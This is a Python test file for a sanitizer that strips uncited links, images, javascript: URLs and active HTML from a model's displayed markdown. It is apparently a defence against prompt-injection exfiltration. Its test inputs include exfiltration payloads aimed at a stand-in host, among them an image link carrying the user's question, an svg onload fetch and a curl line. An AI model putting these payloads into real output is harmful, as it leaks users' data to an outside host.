"""A model's text as it may be shown: nothing hidden, no image, no address that the cited documents do not have."""

import itertools
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.shown import AddressFilter, safe_markdown

EVIL = "https://evil.example/p?d=QUESTION"
GOOD = "https://huggingface.co/docs/peft"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (f"a ![i]({EVIL}) b", "a i b"),
        (f"a ![i][r] b\n\n[r]: {EVIL}", "a i b\n\n"),
        (f"a [click]({EVIL}) b", "a click b"),
        (f"a [click](<{EVIL}> 'title') b", "a click b"),
        (f"a [click][r] b\n[r]: {EVIL}\nc", "a click b\nc"),
        (f"a <{EVIL}> b", "a <(link removed)> b"),
        (f"Log in at {EVIL}.", "Log in at (link removed)."),
        ("see www.evil.example/x now", "see (link removed) now"),
        ("see //evil.example/x now", "see (link removed) now"),
        ("[x](javascript:alert(1))", "x)"),
        ("javascript:alert(1)", "(link removed))"),
        (f'<img src="{EVIL}"> a', " a"),
        (f"<a href={EVIL}>here</a>", "here"),
        (f"<svg onload=fetch('{EVIL}')>", ""),
        (f"![a](![b]({EVIL}))", "a)"),
        (f"[![a]({EVIL})]({EVIL})", "a"),
        (f"[LoRA]({GOOD}) and {GOOD}, too", f"[LoRA]({GOOD}) and {GOOD}, too"),
        ("a\u200bb\x1b[31m\u202ec", "ab[31mc"),
        ("It works [1][2]. [3]: a note", "It works [1][2]. [3]: a note"),
        ("if a < b and c > d: use <div>", "if a < b and c > d: use <div>"),
        (f"Run `curl {EVIL}` now", f"Run `curl {EVIL}` now"),
        (f"```\ncurl {EVIL}\n```", f"```\ncurl {EVIL}\n```"),
        ("A ratio of 3:1, at 10:30; see C++ :: x", "A ratio of 3:1, at 10:30; see C++ :: x"),
    ],
)
def test_addresses_and_what_is_active_are_taken_out_and_the_words_stay(written: str, shown: str) -> None:
    assert safe_markdown(written, cited={GOOD}) == shown


_BITS = st.sampled_from(
    [
        "![",
        "[",
        "]",
        "](",
        ")",
        EVIL,
        "[r]",
        ": ",
        "\n",
        "<",
        ">",
        "<img src=",
        "a",
        " ",
        "javascript:",
        "//",
        "x.y",
        "\u200b",
        "!",
    ]
)
_OUTSIDE = re.compile(r"https?://|javascript:\w|!\[[^\]\n]*\]\([^)\n]*\)|<img src=", re.IGNORECASE)


@given(st.lists(_BITS, max_size=25).map("".join))
def test_no_way_of_writing_leaves_an_address(written: str) -> None:
    assert not _OUTSIDE.search(safe_markdown(written))


@given(st.lists(_BITS, max_size=25).map("".join), st.data())
def test_no_cut_of_a_stream_lets_an_address_through(written: str, data: st.DataObject) -> None:
    edges = [0, *sorted(data.draw(st.lists(st.integers(0, len(written)), max_size=6))), len(written)]

    def read(pieces: list[str]) -> str:
        guard = AddressFilter()
        return "".join(guard.feed(piece) for piece in pieces) + guard.close()

    shown = read([written[a:b] for a, b in itertools.pairwise(edges)])
    assert shown == read([written]) == read(list(written))
    assert "evil.example" not in shown
